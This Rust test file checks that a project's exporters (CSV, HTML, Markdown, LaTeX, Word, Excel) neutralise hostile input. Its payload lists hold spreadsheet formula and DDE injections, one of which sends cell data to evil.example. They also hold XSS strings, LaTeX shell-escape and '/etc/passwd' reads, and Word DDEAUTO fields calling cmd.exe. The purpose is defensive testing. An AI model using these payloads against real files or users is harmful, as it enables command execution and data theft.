//! Hostile words in what is exported: formulas, scripts, fields and commands stay words, in every format and every place of a table.

use std::io::{Cursor, Read as _};

use intercoder::export::format::Format;
use pulldown_cmark::{Event, Options, Parser, Tag};
use regex::Regex;
use scraper::Html;

use crate::export::saying;
use crate::trust::proof::say;

/// What a spreadsheet would run.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=INDIRECT(\"A1\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＠SUM(1)",
    "{=SUM(1+1)}",
    "\"=1+1",
];

/// What comes before a formula so that a guard does not see it.
const BEFORE: [&str; 9] = [
    "", " ", "\t", "\r", "\n", "\u{feff}", "\u{a0}", "a;", "a\",\"",
];

/// What a page would obey.
const PAGES: [&str; 20] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=x>",
    "<style>@import url(//evil.example)</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "</td></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
];

/// What Markdown and LaTeX would obey, and what Word would take for a field or could not hold.
const WORDS: [&str; 24] = [
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "[x]: http://evil.example",
    "<http://evil.example>",
    "`code` **bold** _em_ # head",
    "| a | b |\n|---|---|",
    "```\nfence",
    "\\input{/etc/passwd}",
    "\\write18{calc}",
    "\\immediate\\write18{calc}",
    "\\include{x}\\end{document}",
    "\\catcode`\\%=12",
    "^^5cinput{/etc/passwd}",
    "$\\input{x}$ % & # _ { } ~ ^",
    "\\csname input\\endcsname",
    "\\def\\x{\\x\\x}\\x",
    "INCLUDETEXT \"C:\\\\secret\"",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
    "<w:fldSimple w:instr=\"DDEAUTO\"/>",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "\u{0}\u{1}\u{8}\u{b}\u{c}\u{1f}",
    "\u{fffe}\u{ffff}",
    "\u{202e}cod.exe",
    "]]>&#0;&amp;&notanentity;",
];

fn payloads() -> Vec<String> {
    let formulas = BEFORE.iter().flat_map(|before| {
        FORMULAS
            .iter()
            .map(move |formula| format!("{before}{formula}"))
    });
    let long = ["x".repeat(40_000), "=".repeat(40_000), "<b>".repeat(10_000)];
    let others = PAGES.iter().chain(&WORDS).map(|words| (*words).to_owned());
    formulas.chain(others).chain(long).collect()
}

fn text(format: Format, words: &str) -> String {
    String::from_utf8(format.write(&[saying(words)]).unwrap()).unwrap()
}

/// How a spreadsheet splits a line at a sign, with quotes as everywhere.
fn check_sheet(words: &str, separator: u8) {
    let written = text(Format::Csv, words);
    let written = written.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(separator)
        .from_reader(written.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
            let is_number = cell.parse::<f64>().is_ok();
            let runs = seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number;
            assert!(
                !runs,
                "{words:?}, split at {:?}: {cell:?}",
                char::from(separator)
            );
        }
    }
}

#[test]
fn no_cell_of_a_sheet_is_a_formula_wherever_the_line_is_split() {
    let payloads = payloads();
    for words in &payloads {
        check_sheet(words, b',');
        check_sheet(words, b';');
        check_sheet(words, b'\t');
    }
    say(
        "payloads of sheets",
        &format!(
            "{} hostile texts in every place of a table, split at 3 signs: 0 formulas",
            payloads.len()
        ),
    );
}

/// The elements of a page, each with its attributes.
fn elements(page: &str) -> Vec<String> {
    let page = Html::parse_document(page);
    let nodes = page.tree.nodes().filter_map(|node| {
        let element = node.value().as_element()?;
        let attributes: Vec<String> = element
            .attrs()
            .map(|(name, value)| format!("{name}={value}"))
            .collect();
        Some(format!("{} {attributes:?}", element.name()))
    });
    // Where a line ends in a cell, a page breaks it.
    nodes
        .filter(|element| !element.starts_with("br "))
        .collect()
}

/// What a reader of Markdown would load, follow or run.
fn obeyed(markdown: &str) -> Vec<String> {
    let parsed = Parser::new_ext(markdown, Options::all());
    let obeyed = parsed.filter_map(|event| match event {
        Event::Html(html) | Event::InlineHtml(html) if html.trim() != "<br>" => {
            Some(html.to_string())
        }
        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
            Some(dest_url.to_string())
        }
        Event::Start(Tag::CodeBlock(_)) | Event::Code(_) => Some("code".to_owned()),
        _ => None,
    });
    obeyed.collect()
}

/// The commands of LaTeX but those that stand for one sign.
fn commands(tex: &str) -> Vec<String> {
    let signs = [
        "textbackslash",
        "textasciitilde",
        "textasciicircum",
        "textless",
        "textgreater",
        "textbar",
        "textquotedbl",
        "newline",
    ];
    let command = Regex::new(r"\\([a-zA-Z@]+)").unwrap();
    let found = command.captures_iter(tex).map(|found| found[1].to_owned());
    found
        .filter(|name| !signs.contains(&name.as_str()))
        .collect()
}

#[test]
fn no_page_paper_or_manuscript_obeys_a_word() {
    let payloads = payloads();
    let plain = elements(&text(Format::Html, "plain"));
    let tex = commands(&text(Format::Latex, "plain"));
    for words in &payloads {
        assert_eq!(elements(&text(Format::Html, words)), plain, "{words:?}");
        let markdown = text(Format::Markdown, words);
        assert_eq!(obeyed(&markdown), [""; 0], "{words:?}: {markdown}");
        let latex = text(Format::Latex, words);
        assert_eq!(commands(&latex), tex, "{words:?}");
        assert!(!latex.contains("^^"), "{words:?}");
    }
    say(
        "payloads of pages",
        &format!(
            "{} hostile texts in HTML, Markdown and LaTeX: 0 obeyed",
            payloads.len()
        ),
    );
}

/// The parts of a container, each with the names of its elements.
fn parts(bytes: &[u8]) -> Vec<(String, Vec<String>)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut parts = Vec::new();
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).unwrap();
        let (name, mut xml) = (part.name().unwrap().to_string(), String::new());
        part.read_to_string(&mut xml).unwrap();
        parts.push((name, names(&xml)));
    }
    parts.sort();
    parts
}

/// The elements of XML, which is well formed; without those that break a line or hold a word.
fn names(xml: &str) -> Vec<String> {
    use quick_xml::events::Event;
    let mut names = Vec::new();
    let mut reader = quick_xml::Reader::from_str(xml);
    loop {
        match reader.read_event().unwrap() {
            Event::Start(tag) | Event::Empty(tag) => names.push(tag.name().as_ref().to_owned()),
            Event::Eof => break,
            _ => {}
        }
    }
    let runs = ["w:br", "w:tab", "w:t", "t", "si", "col", "cols"];
    names.retain(|name| !runs.contains(&name.as_str()));
    names
}

#[test]
fn no_office_file_has_a_formula_a_field_a_link_or_a_part_more() {
    let payloads = payloads();
    for format in [Format::Docx, Format::Xlsx] {
        let plain = parts(&format.write(&[saying("plain")]).unwrap());
        for words in &payloads {
            let written = parts(&format.write(&[saying(words)]).unwrap());
            assert_eq!(
                written,
                plain,
                "{}",
                words.chars().take(80).collect::<String>()
            );
        }
    }
    say(
        "payloads of office files",
        &format!(
            "{} hostile texts in Word and Excel: the same parts and elements as of a plain word",
            payloads.len()
        ),
    );
}
